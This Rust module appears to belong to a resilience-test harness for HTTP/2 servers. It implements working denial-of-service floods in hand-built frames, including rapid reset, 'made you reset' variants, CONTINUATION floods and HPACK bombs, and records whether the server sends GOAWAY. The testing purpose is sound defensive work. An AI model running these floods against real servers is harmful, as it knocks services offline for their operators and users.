//! Floods over HTTP/2, in frames made by hand. Each sends as fast as it can, reads meanwhile, and notices when the
//! server has had enough. It asks for `/x`, where the answer has to be big for `/endless`, and where none is to come for
//! `/silent`.

#![allow(dead_code, reason = "tests and benches use different parts")]

use std::io::{ErrorKind, Read, Write};
use std::time::{Duration, Instant};

use crate::attack::{Bounds, Outcome, Target};
use crate::h2_client::{
    ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE, block, frame,
    request,
};
use crate::tls_client::{self, Tls};

const PUSH_PROMISE: u8 = 5;
const CONTINUATION: u8 = 9;
const PADDED: u8 = 8;

/// Bytes that are made at a time; few, so that little is sent beyond what the server still read.
const BATCH: usize = 2048;

/// Streams that a flood holds open at most. No server need allow more (RFC 9113, section 6.5.2).
const HELD: u32 = 100;

/// One kind of flood.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    pub name: &'static str,
    pub run: fn(Target, Bounds) -> Ending,
}

/// What became of a flood.
#[derive(Debug, Clone, Copy)]
pub struct Ending {
    pub outcome: Outcome,
    /// The error code of the GOAWAY frame; `None` where the connection just ended, or never did.
    pub goaway: Option<u32>,
}

/// Each by its name.
macro_rules! floods {
    ($($name:literal => $make:expr;)*) => {
        /// Every flood.
        pub const FLOODS: &[Flood] = &[$(Flood { name: $name, run: |target, bounds| flood(target, bounds, $make) },)*];
    };
}

floods! {
    // Row 62: streams that are opened and given up.
    "rapid reset" => |wire| {
        let stream = wire.get("/x");
        wire.add(RESET, 0, stream, &8u32.to_be_bytes());
    };
    "rapid reset of what was accepted" => |wire| {
        // The answer to a PING says that everything before it was read.
        if wire.pings == wire.pongs {
            for stream in wire.opened.saturating_sub(20)..wire.opened {
                wire.add(RESET, 0, 2 * stream + 1, &8u32.to_be_bytes());
            }
            for _ in 0..20 {
                wire.get("/silent");
            }
            wire.ping();
        }
    };
    "streams beyond the limit" => |wire| {
        wire.post("/x");
    };
    // Row 63: the server is made to reset its own work.
    "made you reset: window of zero" => |wire| {
        let stream = wire.get("/x");
        wire.add(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes());
    };
    "made you reset: window overflow" => |wire| {
        let stream = wire.get("/x");
        wire.add(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes());
    };
    "made you reset: DATA behind the end" => |wire| {
        let stream = wire.get("/x");
        wire.add(DATA, 0, stream, b"more");
    };
    "made you reset: HEADERS behind the end" => |wire| {
        let stream = wire.get("/x");
        wire.add(HEADERS, END_HEADERS | END_STREAM, stream, &block(&vec![("x", "y")]));
    };
    "made you reset: PRIORITY on itself" => |wire| {
        let stream = wire.get("/x");
        wire.add(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat());
    };
    "made you reset: PRIORITY of four bytes" => |wire| {
        let stream = wire.get("/x");
        wire.add(PRIORITY, 0, stream, &[0; 4]);
    };
    "made you reset: wrong content-length" => |wire| {
        let fields = block(&request("POST", "/x", &[("content-length", "5")]));
        let stream = wire.open(&fields, 0);
        wire.add(DATA, END_STREAM, stream, b"x");
    };
    "made you reset: malformed request" => |wire| {
        let fields = block(&request("GET", "/x", &[("Upper", "case")]));
        wire.open(&fields, END_STREAM);
    };
    // Row 64.
    "CONTINUATION without end" => |wire| {
        if wire.opened == 0 {
            wire.open_part(&block(&request("GET", "/x", &[])));
        }
        wire.add(CONTINUATION, 0, 1, &block(&vec![("x", "a field of a few bytes")]));
    };
    "empty CONTINUATION without end" => |wire| {
        if wire.opened == 0 {
            wire.open_part(&block(&request("GET", "/x", &[])));
        }
        wire.add(CONTINUATION, 0, 1, &[]);
    };
    "requests in five CONTINUATIONs each" => |wire| {
        let stream = wire.open_part(&block(&request("GET", "/x", &[])));
        for n in 0..5 {
            wire.add(CONTINUATION, if n == 4 { END_HEADERS } else { 0 }, stream, &[]);
        }
    };
    // Row 65: frames that ask for nothing.
    "SETTINGS, empty" => |wire| wire.add(SETTINGS, 0, 0, &[]);
    "SETTINGS, full" => |wire| {
        let entries = [[0, 3, 0, 0, 0, 100], [0, 4, 0, 1, 0, 0], [0, 5, 0, 0, 0x40, 0], [0xff, 1, 0, 0, 0, 1]];
        wire.add(SETTINGS, 0, 0, &entries.concat());
    };
    "SETTINGS of the header table, back and forth" => |wire| {
        wire.add(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0]);
        wire.add(SETTINGS, 0, 0, &[0, 1, 0, 0, 0x10, 0]);
    };
    "SETTINGS of the window, back and forth" => |wire| {
        if wire.opened < HELD {
            return wire.post("/silent");
        }
        wire.add(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
        wire.add(SETTINGS, 0, 0, &[0, 4, 0x7f, 0, 0, 0]);
    };
    "SETTINGS acknowledgements" => |wire| wire.add(SETTINGS, ACK, 0, &[]);
    "PING" => |wire| wire.add(PING, 0, 0, &[0; 8]);
    "PING acknowledgements" => |wire| wire.add(PING, ACK, 0, &[0; 8]);
    "PRIORITY of idle streams" => |wire| {
        wire.sent_priorities = wire.sent_priorities.wrapping_add(2) & 0x00ff_ffff;
        let stream = wire.sent_priorities | 1;
        wire.add(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
    };
    "PRIORITY of one stream" => |wire| wire.add(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]);
    "WINDOW_UPDATE of one byte" => |wire| wire.add(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes());
    "WINDOW_UPDATE of one byte for a stream" => |wire| {
        if wire.opened == 0 {
            return wire.post("/silent");
        }
        wire.add(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes());
    };
    "unknown frames" => |wire| wire.add(0xbb, 0, 0, &[7; 8]);
    "unknown frames of 16 KiB" => |wire| wire.add(0xbb, 0, 0, &[7; 0x4000]);
    "RST_STREAM of an idle stream" => |wire| wire.add(RESET, 0, 99_999, &8u32.to_be_bytes());
    "RST_STREAM of a closed stream" => |wire| {
        if wire.opened == 0 {
            wire.get("/x");
        }
        wire.add(RESET, 0, 1, &8u32.to_be_bytes());
    };
    "GOAWAY" => |wire| wire.add(GOAWAY, 0, 0, &[0; 8]);
    "GOAWAY beside a held stream" => |wire| {
        if wire.opened == 0 {
            return wire.post("/silent");
        }
        wire.add(GOAWAY, 0, 0, &[0; 8]);
    };
    "PUSH_PROMISE from a client" => |wire| {
        let stream = wire.get("/x");
        wire.add(PUSH_PROMISE, END_HEADERS, stream, &[&2u32.to_be_bytes()[..], &block(&request("GET", "/x", &[]))].concat());
    };
    // Row 66: content that is none.
    "empty DATA" => |wire| {
        if wire.opened == 0 {
            return wire.post("/x");
        }
        wire.add(DATA, 0, 1, &[]);
    };
    "DATA of padding" => |wire| {
        if wire.opened == 0 {
            return wire.post("/x");
        }
        let mut padding = [0; 256];
        padding[0] = 255;
        wire.add(DATA, PADDED, 1, &padding);
    };
    "DATA on a closed stream" => |wire| {
        if wire.opened == 0 {
            let stream = wire.post_to("/x");
            return wire.add(RESET, 0, stream, &8u32.to_be_bytes());
        }
        wire.add(DATA, 0, 1, b"x");
    };
    // Row 67: much from little.
    "HPACK bomb" => |wire| {
        if wire.opened == 0 {
            // A field of 4,000 bytes becomes entry 62 of the dynamic table (RFC 7541, section 6.2.1).
            return wire.get_indexed(&"a".repeat(4000));
        }
        wire.refer(&[0xbe; 4000]);
    };
    "HPACK bomb just over the limit" => |wire| {
        if wire.opened == 0 {
            return wire.get_indexed(&"a".repeat(4000));
        }
        if !wire.is_full() {
            wire.refer(&[0xbe; 9]);
        }
    };
    "thousands of tiny fields" => |wire| {
        if wire.opened == 0 {
            return wire.get_indexed("");
        }
        if !wire.is_full() {
            wire.refer(&[0xbe; 900]);
        }
    };
    "huge header lists" => |wire| {
        if wire.is_full() {
            return;
        }
        let large = "a".repeat(15_000);
        let fields = block(&request("GET", "/x", &[("x", &large), ("y", &large), ("z", &large)]));
        let stream = wire.open_part(&fields[..16_000]);
        wire.add(CONTINUATION, 0, stream, &fields[16_000..32_000]);
        wire.add(CONTINUATION, END_HEADERS, stream, &fields[32_000..]);
    };
    "header table churn" => |wire| {
        if wire.is_full() {
            return;
        }
        // Each of 110 fields pushes another one out.
        let mut fields = block(&request("GET", "/x", &[]));
        for n in 0..110 {
            let field = block(&vec![("a", &format!("{n:03}{}", wire.opened))]);
            fields.push(0x40);
            fields.extend(&field[1..]);
        }
        wire.open(&fields, END_STREAM);
    };
    "a window of one byte at a time" => |wire| {
        if wire.opened == 0 {
            wire.add(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
            wire.get("/endless");
        }
        for _ in 0..std::mem::take(&mut wire.heard) {
            wire.add(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes());
        }
    };
}

/// Runs a flood: `make` adds the next few frames, or none when it waits for something.
pub fn flood(target: Target, bounds: Bounds, mut make: impl FnMut(&mut Wire)) -> Ending {
    let begun = Instant::now();
    let Some(mut wire) = Wire::connect(target) else {
        return Ending { outcome: Outcome { sent: 0, ended: None }, goaway: None };
    };
    loop {
        while wire.made.len() < BATCH && wire.sent < bounds.frames {
            let before = wire.sent;
            make(&mut wire);
            if wire.sent == before {
                break;
            }
        }
        let moved = wire.pump();
        if wire.goaway.is_some() || wire.gone {
            let outcome = Outcome { sent: wire.sent, ended: Some(begun.elapsed()) };
            return Ending { outcome, goaway: wire.goaway };
        }
        if begun.elapsed() >= bounds.time {
            return Ending { outcome: Outcome { sent: wire.sent, ended: None }, goaway: None };
        }
        if !moved {
            std::thread::sleep(Duration::from_micros(100));
        }
    }
}

/// A connection that writes and reads at the same time, and what was seen on it.
pub struct Wire {
    tls: Tls,
    made: Vec<u8>,
    read: Vec<u8>,
    /// Frames sent.
    pub sent: u64,
    /// Streams opened.
    pub opened: u32,
    /// DATA frames with content that have come.
    pub heard: u32,
    /// Streams that the server has ended.
    ended: u32,
    pings: u32,
    pongs: u32,
    sent_priorities: u32,
    goaway: Option<u32>,
    gone: bool,
}

impl Wire {
    fn connect(target: Target) -> Option<Wire> {
        let mut tls = tls_client::connect(target.address, "a.test", &[b"h2"]);
        while tls.conn.is_handshaking() {
            tls.conn.complete_io(&mut tls.sock).ok()?;
        }
        tls.sock.set_nonblocking(true).ok()?;
        let made = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &[])[..]].concat();
        Some(Wire {
            tls,
            made,
            read: Vec::new(),
            sent: 1,
            opened: 0,
            heard: 0,
            ended: 0,
            pings: 0,
            pongs: 0,
            sent_priorities: 0,
            goaway: None,
            gone: false,
        })
    }

    /// One frame more.
    pub fn add(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        self.made.extend(frame(kind, flags, stream, payload));
        self.sent += 1;
    }

    /// A new stream with `fields`, which are whole.
    pub fn open(&mut self, fields: &[u8], flags: u8) -> u32 {
        let stream = 2 * self.opened + 1;
        self.opened += 1;
        self.add(HEADERS, END_HEADERS | flags, stream, fields);
        stream
    }

    /// A new stream without content whose fields go on in CONTINUATION.
    fn open_part(&mut self, fields: &[u8]) -> u32 {
        let stream = 2 * self.opened + 1;
        self.opened += 1;
        self.add(HEADERS, END_STREAM, stream, fields);
        stream
    }

    fn get(&mut self, path: &str) -> u32 {
        self.open(&block(&request("GET", path, &[])), END_STREAM)
    }

    fn post_to(&mut self, path: &str) -> u32 {
        self.open(&block(&request("POST", path, &[])), 0)
    }

    fn post(&mut self, path: &str) {
        self.post_to(path);
    }

    /// A request with one field more, `a: value`, that enters the dynamic table.
    fn get_indexed(&mut self, value: &str) {
        let mut fields = block(&request("GET", "/x", &[]));
        let field = block(&vec![("a", value)]);
        fields.push(0x40);
        fields.extend(&field[1..]);
        self.open(&fields, END_STREAM);
    }

    /// A request with `references` to the tables behind its own fields.
    fn refer(&mut self, references: &[u8]) {
        let fields = [block(&request("GET", "/x", &[])), references.to_vec()].concat();
        self.open(&fields, END_STREAM);
    }

    /// Whether as many streams are open as any server allows.
    fn is_full(&self) -> bool {
        self.opened - self.ended.min(self.opened) >= HELD
    }

    fn ping(&mut self) {
        self.pings += 1;
        self.add(PING, 0, 0, &[1; 8]);
    }

    /// Moves bytes in both directions as far as they go; `false` when none did.
    fn pump(&mut self) -> bool {
        let mut moved = false;
        loop {
            if !self.made.is_empty() && !self.tls.conn.wants_write() {
                // rustls takes 64 KiB at once, and a batch is less unless one frame alone is large.
                let taken = self.tls.conn.writer().write(&self.made).unwrap_or(0);
                self.made.drain(..taken);
            }
            if !self.tls.conn.wants_write() {
                break;
            }
            match self.tls.conn.write_tls(&mut self.tls.sock) {
                Ok(_) => moved = true,
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                // What the server said before is still to be read.
                Err(_) => {
                    self.made.clear();
                    self.gone = true;
                    break;
                }
            }
        }
        let mut bytes = [0; 0x4000];
        let mut over = false;
        while !over {
            match self.tls.conn.read_tls(&mut self.tls.sock) {
                Ok(1..) => moved = true,
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Ok(_) | Err(_) => over = true,
            }
            over |= self.tls.conn.process_new_packets().is_err();
            while let Ok(n @ 1..) = self.tls.conn.reader().read(&mut bytes) {
                self.read.extend(&bytes[..n]);
            }
        }
        self.gone |= over;
        self.take_frames();
        moved
    }

    fn take_frames(&mut self) {
        let mut at = 0;
        while let Some(head) = self.read.get(at..at + 9) {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let (kind, flags) = (head[3], head[4]);
            let Some(payload) = self.read.get(at + 9..at + 9 + length) else { break };
            match kind {
                RESET => self.ended += 1,
                DATA | HEADERS => {
                    self.heard += u32::from(kind == DATA && length > 0);
                    self.ended += u32::from(flags & END_STREAM != 0);
                }
                PING if flags & ACK != 0 => self.pongs += 1,
                GOAWAY => {
                    self.goaway =
                        payload.get(4..8).map(|code| u32::from_be_bytes([code[0], code[1], code[2], code[3]]));
                }
                _ => {}
            }
            at += 9 + length;
        }
        self.read.drain(..at);
    }
}
